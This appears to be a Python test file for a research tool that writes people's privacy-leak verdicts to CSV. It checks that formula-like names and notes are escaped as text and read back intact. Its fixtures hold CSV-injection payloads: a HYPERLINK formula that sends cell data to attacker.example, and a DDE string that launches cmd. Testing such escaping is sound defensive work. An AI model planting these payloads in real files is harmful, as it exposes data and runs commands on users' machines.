"""People's verdicts as CSV: names and notes that would run as spreadsheet formulas are written
as text, and read back as they were."""

import csv
import io

from cimem.analysis.audit.provenance import SampleSpec
from cimem.analysis.audit.sample import SampleRow
from cimem.analysis.audit.verdict_csv import read_verdicts, sample_records, to_csv
from cimem.ingest import ingest_file
from cimem.store import Store

from fixtures import PRIVATE, SHARE, attribute, profile, write_jsonl

HOSTILE_KEY = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
HOSTILE_PROFILE = "@SUM(1+1)*cmd|' /C calc'!A0"


SPEC = SampleSpec(1, 0, "official, rule unanimous")


def hostile_run(tmp_path) -> tuple[Store, int]:
    """A run whose profile and one attribute are named as spreadsheet formulas."""
    attrs = {
        "annual_income": attribute(95000, "finance", "My annual income is $95,000."),
        HOSTILE_KEY: attribute("x", "health", "I have a condition."),
    }
    contexts = [
        {
            "recipient": "Bank Loan Officer",
            "task": "-Apply for a loan",
            "labels": {"annual_income": SHARE, HOSTILE_KEY: PRIVATE},
            "trials": [({HOSTILE_KEY: 1}, {HOSTILE_KEY: "a condition"}, "I have a condition.")],
        }
    ]
    path = write_jsonl(tmp_path / "run.jsonl", [profile(HOSTILE_PROFILE, attrs, contexts)])
    store = Store.open(tmp_path / "db.duckdb")
    return store, ingest_file(store, path, name="hostile").run_id


def sample_of(store: Store, run_id: int) -> list[SampleRow]:
    message = store.messages_to_judge(run_id)[0]
    return [
        SampleRow(
            message.message_id,
            message.profile,
            "Bank Loan Officer",
            "-Apply for a loan",
            message.trial,
            a.attr_id,
            a.key,
            "private",
            "yes",
            "leaks",
            1,
        )
        for a in store.attributes_of(run_id)
    ]


def test_text_that_would_run_as_a_formula_is_written_as_text(tmp_path):
    store, run_id = hostile_run(tmp_path)
    with store:
        rows = list(
            csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id), SPEC))))
        )
    hostile = next(r for r in rows if r["attribute"].endswith('"click")'))
    assert hostile["attribute"] == "'" + HOSTILE_KEY
    assert hostile["profile"] == "'" + HOSTILE_PROFILE
    assert hostile["task"] == "'-Apply for a loan"
    other = next(r for r in rows if r is not hostile)
    assert other["attribute"] == "annual_income"  # plain text is left as it is
    assert other["message_id"].isdigit() and other["trial"] == "0"


def test_a_filled_sheet_reads_back_with_or_without_the_apostrophes(tmp_path):
    store, run_id = hostile_run(tmp_path)
    with store:
        attr_id = {a.key: a.attr_id for a in store.attributes_of(run_id)}[HOSTILE_KEY]
        rows = list(
            csv.DictReader(io.StringIO(to_csv(sample_records(sample_of(store, run_id), SPEC))))
        )
        for r in rows:
            r["revealed"] = "yes"
            r["attr_id"] = ""  # found by the attribute's name alone
            r["reviewer"] = "'=ana"
            r["note"] = "'+1 seen twice"
        kept = io.StringIO()
        writer = csv.DictWriter(kept, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
        # a spreadsheet saving the file again drops its text marks
        dropped = kept.getvalue().replace("'=", "=").replace("'+", "+").replace("'@", "@")
        for text in (kept.getvalue(), dropped):
            verdicts, unset, _ = read_verdicts(store, run_id, text, "filled.csv")
            assert unset == 0
            mine = next(v for v in verdicts if v.attr_id == attr_id)
            assert mine.revealed and mine.reviewer == "=ana" and mine.note == "+1 seen twice"
